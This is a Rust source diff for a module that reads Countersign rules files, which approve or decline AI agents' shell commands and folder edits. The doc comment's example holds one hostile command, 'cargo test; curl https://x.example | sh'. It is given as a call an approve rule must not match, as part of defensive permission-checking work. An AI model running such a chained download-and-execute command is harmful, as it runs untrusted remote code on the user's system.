@@ -1,0 +1,171 @@
+//! Countersign's own rules file, as a repository keeps it (`.countersign/rules.toml`): a list
+//! of `[[rule]]` tables, each one rule in the Grants page's terms with the calls it must and
+//! must not decide, checked when the file is read.
+//!
+//! ```toml
+//! [[rule]]
+//! decide = "approve"                 # or "decline"
+//! command = "cargo test"             # a command prefix, or
+//! # folder = "src"                   # a folder of the repository (file edits)
+//! # tool = "claude-code.Bash"        # one agent's tool; by default every agent's
+//! match = ["cargo test --workspace"]
+//! not_match = ["cargo test; curl https://x.example | sh"]
+//! reason = "…"                       # what a decline tells the agent
+//! ```
+
+use serde::Deserialize;
+
+use super::{
+    Command, Example, Format, ImportError, Placing, Proposed, Said, Source, folder_outcome,
+    shell_outcome,
+};
+use crate::tool::{ANY_AGENT_FILES, ANY_AGENT_SHELL};
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct File {
+    #[serde(default)]
+    rule: Vec<toml::Spanned<Entry>>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Entry {
+    decide: Decide,
+    #[serde(default)]
+    command: Option<String>,
+    #[serde(default)]
+    folder: Option<String>,
+    #[serde(default)]
+    tool: Option<String>,
+    #[serde(default)]
+    reason: Option<String>,
+    #[serde(default, rename = "match")]
+    matches: Vec<String>,
+    #[serde(default)]
+    not_match: Vec<String>,
+}
+
+#[derive(Deserialize, Clone, Copy)]
+#[serde(rename_all = "lowercase")]
+enum Decide {
+    Approve,
+    Decline,
+}
+
+/// The line of byte `at` in `text`.
+fn line_at(text: &str, at: usize) -> u32 {
+    let at = at.min(text.len());
+    u32::try_from(
+        text.as_bytes()[..at]
+            .iter()
+            .filter(|b| **b == b'\n')
+            .count()
+            + 1,
+    )
+    .unwrap_or(u32::MAX)
+}
+
+pub(super) fn read(
+    file: &str,
+    text: &str,
+    placing: &Placing,
+) -> Result<Vec<Proposed>, ImportError> {
+    let fail = |line: Option<u32>, why: String| ImportError {
+        file: file.to_owned(),
+        line,
+        why,
+    };
+    let parsed: File = toml::from_str(text).map_err(|e| {
+        let line = e.span().map(|s| line_at(text, s.start));
+        fail(line, format!("not a rules file: {}", e.message()))
+    })?;
+    let Some(project) = placing.project.as_deref() else {
+        return Err(fail(
+            None,
+            "a repository's rules serve its own calls: name the repository".into(),
+        ));
+    };
+    let mut proposed = Vec::new();
+    for spanned in parsed.rule {
+        let line = line_at(text, spanned.span().start);
+        let e = spanned.into_inner();
+        let said = match e.decide {
+            Decide::Approve => Said::Allow,
+            Decide::Decline => Said::Deny,
+        };
+        let reason = e.reason.as_deref();
+        if reason.is_some_and(|r| r.len() > 500) {
+            return Err(fail(Some(line), "a reason of more than 500 bytes".into()));
+        }
+        let (written, outcome) = match (&e.command, &e.folder) {
+            (Some(command), None) => {
+                let tool = e.tool.as_deref().unwrap_or(ANY_AGENT_SHELL);
+                let outcome = shell_outcome(
+                    &[tool],
+                    said,
+                    &Command::Prefix(command.clone()),
+                    Some(project),
+                    reason,
+                );
+                (format!("command = {command:?}"), outcome)
+            }
+            (None, Some(folder)) => {
+                let tool = e.tool.as_deref().unwrap_or(ANY_AGENT_FILES);
+                let path = if folder.starts_with('/') {
+                    Err("a repository's folder is named from its root, not from /".to_owned())
+                } else if folder.split('/').any(|c| c == ".." || c == ".") {
+                    Err("its path climbs with `..` or names `.`".to_owned())
+                } else {
+                    Ok(format!(
+                        "{}/{}",
+                        project.trim_end_matches('/'),
+                        folder.trim_end_matches('/')
+                    ))
+                };
+                let outcome = folder_outcome(&[tool], said, path, Some(project), reason);
+                (format!("folder = {folder:?}"), outcome)
+            }
+            _ => {
+                return Err(fail(
+                    Some(line),
+                    "a rule names either a `command` or a `folder`".into(),
+                ));
+            }
+        };
+        if let Some(t) = &e.tool
+            && crate::tool::ToolAddress::from_canonical(t).is_err()
+        {
+            return Err(fail(Some(line), format!("`{t}` is not a tool address")));
+        }
+        let decide = match e.decide {
+            Decide::Approve => "approve",
+            Decide::Decline => "decline",
+        };
+        let examples = e
+            .matches
+            .iter()
+            .map(|t| Example {
+                text: t.clone(),
+                covered: true,
+            })
+            .chain(e.not_match.iter().map(|t| Example {
+                text: t.clone(),
+                covered: false,
+            }))
+            .collect();
+        proposed.push(Proposed {
+            source: Source {
+                format: Format::Countersign,
+                file: file.to_owned(),
+                line,
+                text: format!("decide = {decide:?}, {written}"),
+                digest: None,
+            },
+            said,
+            outcome,
+            examples,
+        });
+    }
+    Ok(proposed)
+}
